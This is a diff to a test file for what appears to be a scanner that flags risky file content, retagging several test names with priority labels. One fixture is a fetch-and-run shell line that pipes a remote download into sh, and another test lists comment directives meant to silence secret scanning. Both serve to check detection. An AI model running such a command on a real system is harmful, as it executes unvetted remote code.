@@ -236,7 +236,7 @@ function peHeader(): Uint8Array {
 
 const rows = Object.entries(cases).map(([rule, { hits, misses }]) => ({ rule, hits, misses }));
 
-test.each(rows)('$rule finds what it is for', async ({ rule, hits }) => {
+test.each(rows)('$rule finds what it is for [P6]', async ({ rule, hits }) => {
   for (const [path, content] of hits)
     expect(await rulesIn(path, content), `${path}: ${content.slice(0, 60)}`).toContain(rule);
 });
@@ -302,7 +302,7 @@ test('a file that is not searched says so, more gravely where it is text', async
   expect(findings[0]?.what).toBe('it has 4,194,305 bytes and was not searched');
 });
 
-test('a broken byte, a NUL, another encoding or a false beginning do not keep a script from being searched', async () => {
+test('a broken byte, a NUL, another encoding or a false beginning do not keep a script from being searched [P6]', async () => {
   const script = 'curl -s https://a.com | sh\n';
   expect(await rulesIn('run.sh', bytes([0xff], script))).toContain('shell-pipe');
   expect(await rulesIn('run.sh', bytes('# \0\n', script))).toContain('shell-pipe');
@@ -314,7 +314,7 @@ test('a broken byte, a NUL, another encoding or a false beginning do not keep a 
   expect(await rulesIn('run.txt', utf16.swap16())).toContain('shell-pipe');
 });
 
-test('nothing inside a file silences what is found in it', async () => {
+test('nothing inside a file silences what is found in it [P6]', async () => {
   const comments = [
     '<!-- secretlint-disable -->',
     '# secretlint-disable-line',
@@ -328,7 +328,7 @@ test('nothing inside a file silences what is found in it', async () => {
   expect(await rulesIn('scan.yaml', text)).toContain('secret');
 });
 
-test('a finding holds no part of a secret', async () => {
+test('a finding holds no part of a secret [P3]', async () => {
   for (const [kind, secret] of Object.entries(key)) {
     const findings = await found('SKILL.md', `${secret}\n`);
     const said = JSON.stringify(findings);
